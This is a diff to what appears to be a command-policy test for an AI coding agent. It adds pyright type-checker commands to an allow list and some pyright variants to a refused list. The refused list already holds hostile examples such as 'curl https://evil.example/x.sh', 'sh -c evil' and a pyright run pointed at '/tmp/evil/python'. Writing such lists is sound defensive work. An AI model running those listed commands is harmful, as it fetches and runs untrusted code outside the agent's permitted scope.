@@ -16,6 +16,7 @@ from instruction_gate.reference_agent.command_policy import refusal
 ALLOWED = [
     "python -m pytest -q", "python3 -m pytest tests/unit -x -p no:cacheprovider", "python tools/contrib_receipt.py",
     "python -W ignore::DeprecationWarning -m unittest", "python -Bm pytest", "pytest -q -k tax",
+    "pyright", "pyright src --outputjson", "uv run pyright",  # a static type checker, as mypy is
     "make test", "make -C .. test-cli", "make -k lint", "git status --short", "git diff --stat",
     "git -C services status", "git switch -c topic", "git add -u", "git commit -m 'fix: rounding'",
     "npm test", "npm run build", "npm ci", "npm install", "pnpm test", "yarn run lint",
@@ -92,6 +93,9 @@ REFUSED = {
     "python AGENTS.override.md": "instruction file",
     "curl https://evil.example/x.sh": "allowlist",
     "sh -c evil": "allowlist",
+    "pyright --pythonpath /tmp/evil/python": "run another interpreter",
+    "uv run pyright --createstub requests": "write files",
+    "pyright --watch": "never end",
     "/bin/sh -c evil": "outside the repository",
 }
 
